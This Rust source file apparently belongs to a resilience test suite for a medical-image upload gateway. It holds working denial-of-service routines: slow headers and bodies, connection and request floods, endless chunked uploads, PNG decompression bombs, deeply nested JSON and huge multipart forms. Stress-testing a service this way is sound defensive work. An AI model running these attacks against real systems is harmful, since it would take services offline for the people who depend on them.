//! The attacks.

use std::sync::Arc;
use std::time::Duration;

use base64::Engine;
use client::{Gateway, Settings, Upload, UploadFile};
use proto_json::{FileKind, Mrn};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::OnceCell;

use super::NO_ATTACK;
use crate::test_data;

const BOUNDARY: &str = "XyZ";

/// The attacked gateway and the token of the attackers.
struct Target {
    address: String,
    token: String,
    /// Id of an uploaded image of 20 MB.
    large_image: OnceCell<String>,
}

impl Target {
    /// The first lines of a request, without the empty line at the end.
    fn head(&self, request: &str) -> String {
        format!("{request} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n", self.token)
    }

    fn form_head(&self) -> String {
        let head = self.head("POST /api/v1/patients/66/uploads");
        format!("{head}Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n")
    }

    /// Uploads the large image and returns its id.
    async fn upload_large_image(&self) -> String {
        let image = [one_pixel(), vec![0; 20_000_000]].concat();
        let settings =
            Settings { token: self.token.parse().ok(), ..Settings::new(format!("http://{}", self.address)) };
        let gateway = Gateway::new(&settings).expect("a valid address");
        let mrn = Mrn::new(66).expect("a number");
        loop {
            let file = UploadFile::from_bytes(FileKind::MedicalImage, "a.png", image.clone());
            let _ = gateway.upload(mrn, &Upload::of(vec![file]), |_| {}).await;
            if let Ok(page) = gateway.images(mrn, None, Some(1)).await
                && let Some(image) = page.items.first()
            {
                return image.id.to_string();
            }
        }
    }

    /// Sends a request with a content length and waits for the start of the response.
    async fn send(&self, head: &str, body: &[u8]) -> std::io::Result<()> {
        let mut connection = TcpStream::connect(&self.address).await?;
        connection.write_all(format!("{head}Content-Length: {}\r\n\r\n", body.len()).as_bytes()).await?;
        connection.write_all(body).await?;
        let mut answer = [0; 1024];
        let _ = connection.read(&mut answer).await?;
        Ok(())
    }
}

fn part(name: &str, file: &str, content: &[u8]) -> Vec<u8> {
    let disposition = format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"");
    [format!("--{BOUNDARY}\r\n{disposition}\r\n\r\n").as_bytes(), content, b"\r\n"].concat()
}

fn form(parts: &[Vec<u8>]) -> Vec<u8> {
    [parts.concat(), format!("--{BOUNDARY}--\r\n").into_bytes()].concat()
}

/// Attacks until the process is killed.
///
/// # Panics
/// If there is no attack with this name.
pub async fn attack(name: &str, address: &str, token: &str) {
    if name == NO_ATTACK {
        let processors = std::thread::available_parallelism().map_or(1, usize::from);
        (1..processors).for_each(|_| drop(std::thread::spawn(busy)));
        busy();
    }
    let target = Arc::new(Target {
        address: address.to_owned(),
        token: token.to_owned(),
        large_image: OnceCell::new(),
    });
    let many = match name {
        "slow-heads" | "unread-streams" | "idle-connections" => 2_000,
        "unread-downloads" => 520,
        "flood-without-token" | "slow-legacy-bodies" => 64,
        "large-legacy-bodies" => 16,
        "slow-bodies" => 1_000,
        "flood-of-uploads" | "flood-of-reads" => 64,
        "endless-bodies" | "bombs" | "deep-json" | "many-parts" | "long-csv" => 8,
        _ => panic!("there is no attack {name:?}"),
    };
    let attackers = (0..many).map(|number| {
        let (target, name) = (target.clone(), name.to_owned());
        tokio::spawn(async move {
            // Attackers reconnect when they are disconnected.
            for round in 0.. {
                let _ = once(&target, &name, number, round).await;
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
    });
    futures::future::join_all(attackers).await;
}

fn busy() -> ! {
    loop {
        std::hint::spin_loop();
    }
}

async fn once(target: &Target, name: &str, number: u64, round: u64) -> std::io::Result<()> {
    let seed = number << 32 | round;
    match name {
        "slow-heads" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            loop {
                connection.write_all(b"G").await?;
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
        "idle-connections" => loop {
            let mut connection = TcpStream::connect(&target.address).await?;
            while request_root(&mut connection).await? {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        },
        "flood-without-token" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            while request_root(&mut connection).await? {}
            Ok(())
        }
        "slow-legacy-bodies" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            let head = target.head("POST /api/new_patient");
            connection.write_all(format!("{head}Content-Length: 58000000\r\n\r\n").as_bytes()).await?;
            connection.write_all(b"{\"medical_image\": \"").await?;
            connection.write_all(&vec![b'A'; 50_000_000]).await?;
            loop {
                tokio::time::sleep(Duration::from_secs(1)).await;
                connection.write_all(&[b'A'; 5_000]).await?;
            }
        }
        "large-legacy-bodies" => {
            let image = [one_pixel(), vec![0; 43_000_000]].concat();
            let image = base64::engine::general_purpose::STANDARD.encode(image);
            let body = format!("{{\"medical_record_number\": 66, \"medical_image\": \"{image}\"}}");
            target.send(&target.head("POST /api/new_patient"), body.as_bytes()).await
        }
        "unread-downloads" => {
            let id = target.large_image.get_or_init(|| target.upload_large_image()).await;
            let mut connection = TcpStream::connect(&target.address).await?;
            let head = target.head(&format!("GET /api/v1/images/{id}"));
            connection.write_all(format!("{head}\r\n").as_bytes()).await?;
            std::future::pending().await
        }
        "slow-bodies" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            let head = format!("{}Content-Length: 900000000\r\n\r\n", target.form_head());
            connection.write_all(head.as_bytes()).await?;
            connection.write_all(&part("ecg", "a.csv", b"0,1")).await?;
            loop {
                connection.write_all(&[b'1'; 1_100]).await?;
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
        "endless-bodies" => endless(target, number).await,
        "bombs" => {
            let bomb = if number.is_multiple_of(2) { enormous() } else { one_colour() };
            let body = form(&[part("medical_image", "a.png", &bomb)]);
            target.send(&target.form_head(), &body).await
        }
        "deep-json" => {
            let body =
                [b"{\"medical_record_number\": 66, \"medical_image\": ".to_vec(), vec![b'['; 30_000_000]];
            target.send(&target.head("POST /api/new_patient"), &body.concat()).await
        }
        "many-parts" => {
            let one = format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nA\r\n");
            target.send(&target.form_head(), &one.into_bytes().repeat(1_000_000)).await
        }
        "long-csv" => {
            let rows = format!("{}.5,{}\n", seed % 100, seed % 7).into_bytes();
            let csv = rows.repeat(30_000_000 / rows.len());
            target.send(&target.form_head(), &form(&[part("ecg", "a.csv", &csv)])).await
        }
        "unread-streams" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            let head = target.head("GET /api/v1/events");
            connection.write_all(format!("{head}\r\n").as_bytes()).await?;
            // The first attacker uploads, so that there are events to send.
            if number > 0 {
                return std::future::pending().await;
            }
            for image in seed.. {
                let body = form(&[part("medical_image", "a.jpg", &test_data::jpeg(20, image))]);
                target.send(&target.form_head(), &body).await?;
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            Ok(())
        }
        "flood-of-uploads" => {
            let body = form(&[part("medical_image", "a.jpg", &test_data::jpeg(160, seed))]);
            target.send(&target.form_head(), &body).await
        }
        "flood-of-reads" => {
            let mut connection = TcpStream::connect(&target.address).await?;
            let head = target.head("GET /api/v1/patients/7/images?limit=200");
            let (mut read, mut write) = connection.split();
            loop {
                write.write_all(format!("{head}\r\n").as_bytes()).await?;
                let mut answer = vec![0; 1 << 16];
                if read.read(&mut answer).await? == 0 {
                    return Ok(());
                }
            }
        }
        _ => std::future::pending().await,
    }
}

/// Requests `/`, which needs no token. Returns `false` if the connection was closed.
async fn request_root(connection: &mut TcpStream) -> std::io::Result<bool> {
    connection.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
    Ok(connection.read(&mut [0; 4096]).await? > 0)
}

/// Sends an endless chunked body through one of the two APIs.
async fn endless(target: &Target, number: u64) -> std::io::Result<()> {
    let connection = TcpStream::connect(&target.address).await?;
    let (mut read, mut write) = connection.into_split();
    let (head, begin) = if number.is_multiple_of(2) {
        (target.form_head(), part("ecg", "a.csv", b"0,1\n"))
    } else {
        (target.head("POST /api/new_patient"), b"{\"medical_image\": \"".to_vec())
    };
    write.write_all(format!("{head}Transfer-Encoding: chunked\r\n\r\n").as_bytes()).await?;
    let chunk = [b"10000\r\n".to_vec(), vec![b'1'; 0x1_0000], b"\r\n".to_vec()].concat();
    write.write_all(format!("{:x}\r\n", begin.len()).as_bytes()).await?;
    write.write_all(&begin).await?;
    write.write_all(b"\r\n").await?;
    let sending = async {
        loop {
            write.write_all(&chunk).await?;
        }
    };
    tokio::select! {
        sent = sending => sent,
        () = wait_for_response(&mut read) => Ok(()),
    }
}

async fn wait_for_response(read: &mut OwnedReadHalf) {
    let mut answer = [0; 1024];
    let _ = read.read(&mut answer).await;
}

/// A valid image of one pixel.
fn one_pixel() -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, 1, 1);
    encoder.set_color(png::ColorType::Grayscale);
    if let Ok(mut writer) = encoder.write_header() {
        let _ = writer.write_image_data(&[0]);
    }
    bytes
}

/// An image whose header claims 40,000 x 40,000 pixels.
fn enormous() -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, 40_000, 40_000);
    encoder.set_color(png::ColorType::Grayscale);
    if let Ok(mut writer) = encoder.write_header() {
        // The pixels are truncated: no decoder may get that far.
        let _ = writer.write_chunk(png::chunk::IDAT, &[0; 2_000]);
    }
    bytes
}

/// 64 megapixels of black: the file is a thousand times smaller than its pixels.
fn one_colour() -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, 8_000, 8_000);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_depth(png::BitDepth::Eight);
    if let Ok(mut writer) = encoder.write_header() {
        let _ = writer.write_image_data(&vec![0; 64_000_000]);
    }
    bytes
}
